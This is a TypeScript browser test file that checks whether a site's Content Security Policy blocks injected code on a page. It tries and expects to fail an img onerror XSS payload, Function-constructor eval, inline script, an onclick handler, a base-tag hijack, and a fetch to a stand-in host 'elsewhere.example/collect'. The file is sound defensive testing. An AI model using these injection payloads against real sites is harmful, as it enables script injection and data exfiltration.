/**
 * The security policy, in force: what it is written for does not happen. It is one for all pages; that nothing of the site's own offends
 * it, every journey sees.
 */
import { openPage } from "./open-page.ts";
import { expect, test } from "./site.ts";

test.use({ expectedErrors: /Content Security Policy|TrustedHTML|TrustedScript/ });

test("what does not come from the site does not run", async ({ page }) => {
  await openPage(page, "/inspiration/swot/");
  const outcome = await page.evaluate(async () => {
    const attempt = async (work: () => unknown) => {
      try {
        await work();
        return "done";
      } catch (error) {
        return (error as Error).name;
      }
    };
    const results: Record<string, unknown> = {};
    const ran = window as unknown as { ran?: string };
    results.markup = await attempt(() => {
      document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.ran = `handler`'>");
    });
    // Later, since the browser's tools may do what pages may not.
    await new Promise((resolve) => setTimeout(resolve));
    results.text = await attempt(() => Reflect.construct(Function, ["window.ran = 'text'"])());
    results.inline = await attempt(() => {
      const script = document.createElement("script");
      script.textContent = "window.ran = 'inline'";
      document.body.append(script);
    });
    results.handler = await attempt(() => {
      const button = document.createElement("button");
      button.setAttribute("onclick", "window.ran = 'handler'");
      document.body.append(button);
      button.click();
    });
    results.otherHost = await attempt(() => fetch("https://elsewhere.example/collect?what=everything"));
    results.base = await attempt(() => {
      const base = document.createElement("base");
      base.href = "https://elsewhere.example/";
      document.head.append(base);
    });
    results.origin = new URL("a", document.baseURI).origin === location.origin;
    return { ...results, ran: ran.ran };
  });
  expect(outcome).toEqual({
    markup: "TypeError",
    text: "EvalError",
    inline: "TypeError",
    handler: "TypeError",
    otherHost: "TypeError",
    base: "done",
    origin: true,
    ran: undefined,
  });
});
